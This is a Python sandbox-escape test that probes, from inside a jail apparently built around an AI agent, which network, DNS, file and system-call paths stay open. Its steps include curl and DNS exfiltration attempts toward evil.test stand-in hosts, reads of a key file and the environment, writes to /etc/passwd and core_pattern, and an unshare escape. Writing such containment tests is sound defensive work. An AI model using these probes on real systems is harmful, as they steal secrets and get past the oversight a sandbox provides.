"""What a program in a jail can reach, tried from inside; prints what it found as JSON.

Its argument is JSON too: the upstreams' ports, and places that it must not get at.
"""

import ctypes
import errno
import fcntl
import json
import os
import socket
import ssl
import subprocess
import sys

import urllib3
from mitmproxy.dns import DNSMessage, Question
from mitmproxy.net.dns import response_codes

ASKED = json.loads(sys.argv[1])
TYPES = {"A": 1, "TXT": 16, "AAAA": 28, "HTTPS": 65}
found = {}


def attempt(what):
    """Give what a call gives, or the name of its error."""
    try:
        return what()
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def query(name, kind, server, tcp=False):
    """Ask a name server; gives the code of its answer and the addresses."""
    question = DNSMessage(
        **dict.fromkeys(("authoritative_answer", "truncation", "recursion_available"), False),
        **dict.fromkeys(("op_code", "reserved", "response_code"), 0),
        **{part: [] for part in ("answers", "authorities", "additionals")},
        id=7,
        query=True,
        recursion_desired=True,
        questions=[Question(name, TYPES[kind], 1)],
    )
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as asker:
        asker.settimeout(5)
        asker.connect((server, 53))
        packet = question.packed
        asker.sendall(len(packet).to_bytes(2) + packet if tcp else packet)
        reply = DNSMessage.unpack(asker.recv(4096)[2 if tcp else 0 :])
    code = response_codes.to_str(reply.response_code)
    return [code, *(socket.inet_ntop(family_of(a.data), a.data) for a in reply.answers)]


def family_of(address):
    return socket.AF_INET if len(address) == 4 else socket.AF_INET6


def https(host, port, address, sni=True, path="/echo"):
    """Call over TLS, at an address of our choice; gives status line and body."""
    context = ssl.create_default_context()
    if not sni:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    plain = socket.create_connection((address, port), timeout=20)
    with context.wrap_socket(plain, server_hostname=host if sni else None) as tls:
        request = f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
        tls.sendall(request.encode())
        return read(tls)


def read(stream):
    data = b""
    while piece := stream.recv(65536):
        data += piece
    head, _, body = data.decode().partition("\r\n\r\n")
    return [head.splitlines()[0].strip() if head else "", body]


def http(host, port, address):
    with socket.create_connection((address, port), timeout=20) as plain:
        request = f"GET /echo HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
        plain.sendall(request.encode())
        return read(plain)


def raw(address, port):
    with socket.create_connection((address, port), timeout=3) as client:
        client.sendall(b"SSH-2.0-OpenSSH_9\r\n\r\n")
        return read(client)


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(5)
        sender.connect((address, port))
        sender.send(b"\xc0 initial")
        return sender.recv(100).decode()


def unix(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(5)
        client.connect(path)
        return client.recv(100).decode()


def connect(address, port):
    socket.create_connection((address, port), timeout=5).close()
    return "connected"


def shell(text):
    done = subprocess.run(["sh", "-c", text], capture_output=True, text=True, timeout=20)
    return [done.returncode, done.stdout]


def text(path):
    with open(path) as file:
        return file.read()


def write(path):
    with open(path, "a") as file:
        file.write("\n")
    return "written"


def system_call(number):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(ctypes.c_long(number), 1, 0, 0, 0, 0) < 0:
        return errno.errorcode[ctypes.get_errno()]
    return "done"


files, plain, llm = (ASKED[name] for name in ("files", "plain", "llm"))
name, port = files["name"], files["port"]

# What is allowed, by clients that know of no proxy.
found["curl"] = shell(f"curl -sS https://{name}:{port}/echo?curl")
found["plain"] = shell(f"curl -sS http://{plain['name']}:{plain['port']}/echo?plain")
found["urllib3"] = urllib3.PoolManager().request("GET", f"https://{name}:{port}/echo").status
found["socket"] = https(name, port, name)
found["getent"] = shell(f"getent ahosts {name}")
address = socket.getaddrinfo(name, port, family=socket.AF_INET)[0][4][0]
found["stable"] = address == socket.getaddrinfo(name, port, family=socket.AF_INET)[0][4][0]
found["other address"] = https(name, port, "203.0.113.7")

# What is not.
found["refused name"] = shell("curl -sS https://secret-4111111111111111.evil.test/")
found["refused tool"] = attempt(lambda: socket.getaddrinfo("evil.test", 443))
found["literal"] = https("9.9.9.9", 443, "9.9.9.9", sni=False)
found["literal ipv6"] = http("[2001:db8::1]", 80, "2001:db8::1")
found["fronted"] = http(plain["name"], plain["port"], address)
found["other name"] = https(llm["name"], llm["port"], address)
found["forgotten"] = http(plain["name"], plain["port"], "198.19.255.1")
found["raw"] = attempt(lambda: raw("192.0.2.1", 22))
found["quic"] = attempt(lambda: udp("192.0.2.1", 443))
found["host loopback"] = attempt(lambda: connect("127.0.0.1", port))
found["nowhere"] = https("nowhere.example.test", 443, "nowhere.example.test")

# Names.
for server in ("8.8.8.8", "2001:4860:4860::8888", "127.0.0.53"):
    found[f"dns {server}"] = query(name, "A", server)
    found[f"dns {server} refused"] = query("exfil.evil.test", "A", server)
found["dns tcp"] = query(name, "AAAA", "1.1.1.1", tcp=True)
found["dns wildcard"] = query(f"x{'y' * 50}.{name}", "A", "8.8.8.8")
found["dns https"] = query(name, "HTTPS", "8.8.8.8")
found["dns txt"] = query("data.evil.test", "TXT", "8.8.8.8")
for number in range(300):
    query(f"chunk{number}.evil.test", "A", "8.8.8.8")

# The machine.
found["home"] = attempt(lambda: os.listdir(ASKED["home"]))
found["key"] = attempt(lambda: text(f"{ASKED['home']}/log.key"))
found["processes"] = [
    text(f"/proc/{pid}/cmdline").replace("\0", " ") for pid in os.listdir("/proc") if pid.isdigit()
]
found["descriptors"] = sorted(
    attempt(lambda fd=fd: os.readlink(f"/proc/self/fd/{fd}")) for fd in os.listdir("/proc/self/fd")
)
found["status"] = dict(
    line.split(":\t", 1) for line in text("/proc/self/status").splitlines() if ":\t" in line
)
found["ids"] = [os.getuid(), os.getgid()]
found["sockets"] = [attempt(lambda path=path: unix(path)) for path in ASKED["sockets"]]
found["run"] = sorted(os.listdir("/run"))
found["temporary"] = os.listdir("/tmp")
found["vsock"] = attempt(lambda: socket.socket(40, socket.SOCK_STREAM))
found["io_uring"] = system_call(425)
found["typing"] = attempt(lambda: fcntl.ioctl(0, 0x5412, b"x"))
found["policy"] = attempt(lambda: write(ASKED["policy"]))
found["policy moved"] = attempt(
    lambda: os.rename(os.path.dirname(ASKED["policy"]), os.path.dirname(ASKED["policy"]) + "2")
)
found["home moved"] = attempt(
    lambda: os.rename(os.path.dirname(ASKED["home"]), os.path.dirname(ASKED["home"]) + "2")
)
found["program"] = attempt(lambda: write(ASKED["program"]))
found["system"] = attempt(lambda: write("/etc/passwd"))
found["core pattern"] = attempt(lambda: write("/proc/sys/kernel/core_pattern"))
found["work"] = attempt(lambda: write("made-inside"))
found["nested"] = shell(
    "unshare -Urnm sh -c 'ip link set lo up; umount " + ASKED["home"] + " 2>/dev/null; "
    f"ls {ASKED['home']}; curl -sS -m 3 http://{plain['name']}:{plain['port']}/nested"
    f" || curl -sS -m 3 http://{address}:{port}/nested && echo out'"
)
found["environment"] = dict(os.environ)
print(json.dumps(found))
sys.exit(7)
